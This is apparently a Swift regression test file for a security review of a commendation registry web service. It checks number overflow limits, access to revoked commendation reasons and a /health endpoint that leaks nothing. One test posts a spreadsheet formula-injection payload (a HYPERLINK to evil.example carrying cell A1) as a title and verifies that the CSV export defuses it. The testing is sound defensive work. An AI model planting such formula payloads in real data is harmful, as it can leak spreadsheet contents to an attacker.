import Foundation
import HTTPTypes
import Hummingbird
import HummingbirdTesting
import PostgresNIO
import Testing
import ThiduaCore
import ThiduaStore
import ThiduaTestSupport

/// Regression tests for the security review's findings (../shared/docs/reviews/security.md), one test per finding,
/// named by its id. Each failed on 7d27e19.
@Suite("Hardening: the security review's findings")
struct HardeningTests {
    @Test("F3: numbers that would overflow are refused with 422, and a poisoned base salary cannot crash a reward quote")
    func f3Overflow() async throws {
        try await withTestApp { app, seed in
            let f = try await RegistryFixture.make(seed)
            try await app.test(.router) { client in
                let percent = try await client.send(
                    .put, "/v1/units/\(f.school.id)/policy", token: f.admin,
                    json: #"{"reason":"thử","caps":[{"award":"CSTD_CS","ofAward":"LDTT","percent":"92233720368547759"}]}"#)
                #expect(percent.status == 422)
                #expect(percent.body["errors"]?.array?.first?["field"]?.string == "caps[0]")
                let over100 = try await client.send(
                    .put, "/v1/units/\(f.school.id)/policy", token: f.admin,
                    json: #"{"reason":"thử","caps":[{"award":"CSTD_CS","ofAward":"LDTT","percent":"150"}]}"#)
                #expect(over100.status == 422)
                let coefficient = try await client.send(
                    .post, "/v1/awards/LDTT/rules", token: f.admin,
                    json: #"{"effectiveFrom":"2030-01-01","coefficient":"92233720368547759","reason":"thử"}"#)
                #expect(coefficient.status == 422)
                let salary = try await client.send(
                    .post, "/v1/base-salaries", token: f.admin, json: #"{"amount":900000000000000000,"effectiveFrom":"2030-01-01"}"#)
                #expect(salary.status == 422)
                #expect(salary.body["errors"]?.array?.first?["field"]?.string == "amount")

                // A row stored before the limits existed (simulated by lifting the check) gives a refusal, every time.
                try await seed.client.query("ALTER TABLE base_salaries DROP CONSTRAINT base_salaries_amount_limit", logger: seed.logger)
                try await seed.client.query(
                    "INSERT INTO base_salaries (effective_from, amount, citation) VALUES ('2031-01-01', 900000000000000000, 'x')",
                    logger: seed.logger)
                for _ in 0..<2 {
                    let quote = try await client.send(.get, "/v1/awards/LDTT/reward?date=2031-06-01", token: f.staff)
                    #expect(quote.status == 422)
                    #expect(quote.body["detail"]?.string?.contains("vượt quá giới hạn") == true)
                }
                #expect(try await client.send(.get, "/v1/awards/LDTT/reward?date=2024-07-01", token: f.staff).status == 200)
            }
        }
    }

    @Test("F5: a model titled like a formula reaches the movement report's CSV as text, not as a formula")
    func f5FormulaInCSV() async throws {
        try await withTestApp { app, seed in
            let f = try await RegistryFixture.make(seed)
            try await app.test(.router) { client in
                let model = try await client.send(
                    .post, "/v1/movements/\(f.movement.id)/models", token: f.union,
                    json:
                        #"{"title":"=HYPERLINK(\"http://evil.example/?\"&A1,\"Xem\")","field":"economy","owner":{"unitId":"\#(f.collective.id)"}}"#
                )
                #expect(model.status == 201)
                var csv = ""
                try await client.execute(
                    uri: "/v1/reports/movements/\(f.movement.id)?format=csv", method: .get, headers: Seed.headers(f.headmaster)
                ) { response in
                    csv = String(decoding: response.body.readableBytesView, as: UTF8.self)
                }
                #expect(csv.contains(#""'=HYPERLINK(""http://evil.example/?""&A1,""Xem"")""#))
                #expect(!csv.contains(#","=HYPERLINK"#))
            }
        }
    }

    @Test("F4: a staff account cannot list revoked commendations (their reasons); the registry roles can")
    func f4RevokedReasons() async throws {
        try await withTestApp { app, seed in
            let f = try await RegistryFixture.make(seed)
            let nomination = try await f.nomination(seed, status: .recommended)
            let commendation = try await NominationRepository(client: seed.client).approve(
                nomination.id, decision: DecisionReference.validate(number: "12/QĐ-THAP", date: "2024-05-20"), expectedVersion: nil,
                by: f.headmasterAccount, logger: seed.logger)
            _ = try await CommendationRepository(client: seed.client).revoke(
                commendation.id, reason: "Lý do nội bộ", decisionNumber: "20/QĐ-THAP", by: f.headmasterAccount, logger: seed.logger)
            try await app.test(.router) { client in
                let path = "/v1/reports/honor-list?year=2024&includeRevoked=true&format=json"
                let byStaff = try await client.send(.get, path, token: f.staff)
                #expect(byStaff.status == 403)
                let published = try await client.send(.get, "/v1/reports/honor-list?year=2024&format=json", token: f.staff)
                #expect(published.status == 200)
                let byHeadmaster = try await client.send(.get, path, token: f.headmaster)
                #expect(byHeadmaster.status == 200)
                #expect(
                    byHeadmaster.body["sections"]?.array?.first?["groups"]?.array?.first?["entries"]?.array?.first?["revocationReason"]?
                        .string == "Lý do nội bộ")
            }
        }
    }

    @Test("F16: /health names neither the data folder nor the database host")
    func f16HealthRevealsNothing() async throws {
        try await withTestApp { app, _ in
            try await app.test(.router) { client in
                try await client.execute(uri: "/health", method: .get) { response in
                    let text = String(decoding: response.body.readableBytesView, as: UTF8.self)
                    #expect(response.status == .ok)
                    #expect(text.contains("\"state\":\"up\""))
                    #expect(!text.contains("location"))
                    #expect(!text.contains("test "))
                    #expect(!text.contains("/tmp"))
                }
            }
        }
    }
}
